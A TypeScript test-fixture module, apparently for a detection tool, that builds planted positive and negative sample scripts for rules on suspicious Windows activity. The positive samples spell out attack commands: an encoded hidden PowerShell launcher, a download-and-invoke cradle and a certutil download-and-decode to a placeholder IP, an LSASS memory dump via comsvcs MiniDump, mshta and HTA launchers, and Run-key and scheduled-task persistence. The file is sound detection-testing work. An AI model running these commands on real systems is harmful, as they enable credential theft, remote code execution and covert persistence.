import { ascii, crlf, j, negative, positive } from './sample-kit'
import type { PlantedSample } from './sample-kit'

const STARTUP = 'Users/alice/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup'
const SCRIPTS = 'Users/alice/Documents/scripts'
const STAGING = 'ProgramData/update'
const TEMP = 'Users/alice/AppData/Local/Temp'

/** A harmless command, Base64-encoded the way `-EncodedCommand` expects (UTF-16LE). */
function encodedCommand(): string {
  return Buffer.from('Write-Output "Outpost planted sample"; Start-Sleep 1', 'utf16le').toString(
    'base64',
  )
}

/** Samples for the two PowerShell rules. */
export function powershellSamples(): PlantedSample[] {
  const encoded = 'SUSP_PowerShell_Encoded_Command_Line'
  const cradle = 'SUSP_PowerShell_Download_And_Invoke'
  const launcher = j('power', 'shell.exe -NoP -NonI -W Hidden -E', `nc ${encodedCommand()}`)
  const certificate = Buffer.from('Outpost planted sample certificate body '.repeat(4)).toString(
    'base64',
  )
  const report = crlf(
    'powershell.exe -NoProfile -ExecutionPolicy Bypass -File .\\export-report.ps1',
    'Get-Content .\\report.csv -Encoding UTF8 | Set-Content .\\report-utf8.csv -Encoding UTF8',
    `$caCertificate = "${certificate}"`,
  )
  const invoke = j(
    'IE',
    'X (New-Object Net.Web',
    'Client).Download',
    "String('http://198.51.100.7/a')",
  )
  const install = crlf(
    '$u = "https://pki.example.org/ca.cer"',
    'Invoke-WebRequest -Uri $u -OutFile "$env:TEMP\\ca.cer"',
    '$pinned = [Convert]::FromBase64String($env:PINNED_CA)',
    'Import-Certificate -FilePath "$env:TEMP\\ca.cer" -CertStoreLocation Cert:\\LocalMachine\\Root',
  )
  return [
    positive(
      encoded,
      '$enc',
      `${STARTUP}/update.bat`,
      crlf('@echo off', `start /b ${launcher}`),
      launcher,
    ),
    negative(encoded, `${SCRIPTS}/export-report.ps1`, report),
    positive(cradle, '$iex', `${TEMP}/stage1.ps1`, crlf(invoke), invoke),
    negative(cradle, `${SCRIPTS}/install-ca.ps1`, install),
  ]
}

/** Samples for the comsvcs MiniDump rule. */
export function comsvcsSamples(): PlantedSample[] {
  const rule = 'SUSP_LSASS_Dump_Via_Comsvcs_MiniDump'
  const dump = j(
    'rundll32.exe C:\\Windows\\System32\\com',
    'svcs.dll, Mini',
    'Dump 624 C:\\Windows\\Temp\\l.dmp full',
  )
  const repair = crlf(
    'rem Re-register COM+ services after the repair install',
    'regsvr32 /s comsvcs.dll',
    'rundll32.exe shell32.dll,Control_RunDLL appwiz.cpl',
  )
  return [
    positive(rule, '$minidump', `${STAGING}/collect.bat`, crlf('@echo off', dump), dump),
    negative(rule, 'Windows/Temp/com-repair.bat', repair),
  ]
}

/** Samples for the mshta and certutil rules. */
export function lolbinSamples(): PlantedSample[] {
  const mshta = 'SUSP_Mshta_Inline_Or_Remote_Script'
  const certutil = 'SUSP_Certutil_Download_Or_Decode'
  const inline = j(
    'msh',
    'ta vbscript:Execute("CreateObject(""WScr',
    'ipt.Shell"").Run ""notepad"", 0:close")',
  )
  const download = j(
    'certu',
    'til.exe -url',
    'cache -split -f http://198.51.100.7/u.txt %TEMP%\\u.txt',
  )
  return [
    positive(mshta, '$inline', `${STARTUP}/sync.cmd`, crlf('@echo off', inline), inline),
    negative(mshta, `${SCRIPTS}/run-inventory.cmd`, crlf('mshta.exe "C:\\Tools\\inventory.hta"')),
    positive(
      certutil,
      '$download',
      `${STAGING}/get.bat`,
      crlf('@echo off', download, j('certu', 'til -dec', 'ode %TEMP%\\u.txt %TEMP%\\u.exe')),
      download,
    ),
    negative(
      certutil,
      `${SCRIPTS}/verify-iso.bat`,
      crlf('certutil -hashfile Win11_24H2.iso SHA256', 'certutil -encode ca.der ca.b64'),
    ),
  ]
}

/** Samples for the Run-key and scheduled-task rules. */
export function persistenceSamples(): PlantedSample[] {
  const runKey = 'SUSP_Script_RunKey_Persistence'
  const task = 'SUSP_Script_Scheduled_Task_Persistence'
  const key = '\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'
  const add = j(
    `reg add "HKCU${key}" /v OneDriveSync /t REG_SZ /d "ws`,
    'cript.exe //B %APPDATA%\\s.vbs" /f',
  )
  const query = crlf(`reg query "HKCU${key}"`, `reg query "HKLM${key}"`, 'echo Profile: %APPDATA%')
  const create = j(
    'schta',
    'sks /create /tn "EdgeUpdateCore" /tr "ws',
    'cript.exe //B C:\\Users\\Public\\u.js" /sc onlogon /f',
  )
  const backup = crlf(
    'schtasks /create /tn "Nightly Backup" /tr "\\"C:\\Program Files\\Backup\\backup.exe\\" --profile nightly" /sc daily /st 02:00 /ru SYSTEM',
    'schtasks /query /tn "Nightly Backup"',
  )
  return [
    positive(runKey, '$key', `${TEMP}/persist.bat`, crlf('@echo off', add), key),
    negative(runKey, `${SCRIPTS}/list-autoruns.bat`, query),
    positive(task, '$create1', `${STAGING}/task.bat`, crlf('@echo off', create), 'schtasks'),
    negative(task, 'Windows/Setup/Scripts/backup-task.cmd', backup),
  ]
}

/** Samples for the HTA rule: one with the HTA tag, one relying on the `.hta` extension. */
export function htaSamples(): PlantedSample[] {
  const rule = 'SUSP_HTA_Running_Commands'
  const tag = '<HTA:APPLICATION id="viewer" windowState="minimize" showInTaskbar="no"/>'
  const runner = j('Set s = CreateObject("WScr', 'ipt.Shell") : s.Run "notepad", 0 : self.close')
  const viewer = ascii(
    `<html><head>${tag}<script language="VBScript">${runner}</script></head></html>\r\n`,
  )
  const untagged = ascii(
    j(
      '<html><body><script language="JScript">new ActiveXObject("WScr',
      'ipt.Shell").Run("notepad");</script></body></html>\r\n',
    ),
  )
  const inventory = ascii(
    '<html><head><HTA:APPLICATION id="inventory" border="thin"/>' +
      '<script>window.resizeTo(640, 480);</script></head>' +
      '<body><h1>Asset inventory</h1><input id="tag" placeholder="Asset tag"/></body></html>\r\n',
  )
  return [
    positive(rule, '$hta', 'Users/alice/Downloads/invoice_viewer.hta', viewer, tag.slice(0, 16)),
    positive(rule, '$script', 'Users/alice/Downloads/readme.hta', untagged, '<script'),
    negative(rule, 'Users/alice/Documents/tools/inventory.hta', inventory),
    negative(rule, 'Users/alice/Documents/web/legacy-intranet.html', untagged),
  ]
}
